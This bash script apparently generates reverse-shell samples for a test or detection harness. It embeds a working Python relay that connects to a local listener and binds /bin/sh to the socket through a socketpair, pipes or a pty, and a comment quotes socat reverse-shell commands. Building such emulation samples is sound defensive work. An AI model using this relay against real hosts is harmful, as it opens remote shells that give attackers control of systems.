#!/bin/bash
# family: reverse-shell
# needs: listener
# actors: sh
# (the orchestrating bash, the relay and the commands the attacker runs are bystanders: only the shell acts; the relay
# is a few lines of Python making socat's calls: connect, a socketpair, two pipes or a pty, fork, dup2 onto 0-2, exec)
# socat's reverse shell, revshells.com's spellings: socat TCP:HOST:PORT EXEC:sh, EXEC:sh,pipes, EXEC:'sh -i',pty.
RANDOM=$PG_SEED
relay='import os,socket,sys,select,pty
s=socket.create_connection(("127.0.0.1",int(sys.argv[1])))
mode,prog=sys.argv[2],sys.argv[3:]
if mode=="pty":
    pid,fd=pty.fork()
    if pid==0: os.execv(prog[0],prog)
    rd=wr=fd
elif mode=="pipes":
    r0,w0=os.pipe(); r1,w1=os.pipe(); pid=os.fork()
    if pid==0:
        os.dup2(r0,0); os.dup2(w1,1); os.dup2(w1,2); os.execv(prog[0],prog)
    os.close(r0); os.close(w1); rd,wr=r1,w0
else:
    a,b=socket.socketpair(); pid=os.fork()
    if pid==0:
        os.dup2(b.fileno(),0); os.dup2(b.fileno(),1); os.dup2(b.fileno(),2); os.execv(prog[0],prog)
    b.close(); rd=wr=a.fileno()
up=True
while True:
    r,_,_=select.select([s,rd] if up else [rd],[],[],10)
    if not r: break
    if s in r:
        d=s.recv(4096)
        if d: os.write(wr,d)
        else: up=False
    if rd in r:
        try: d=os.read(rd,4096)
        except OSError: break
        if not d: break
        s.sendall(d)
os.waitpid(pid,0)'
case $((RANDOM % 3)) in
  0) python3 -c "$relay" "$PG_PORT" sp /bin/sh ;;
  1) python3 -c "$relay" "$PG_PORT" pipes /bin/sh ;;
  *) python3 -c "$relay" "$PG_PORT" pty /bin/sh -i ;;
esac
exit 0
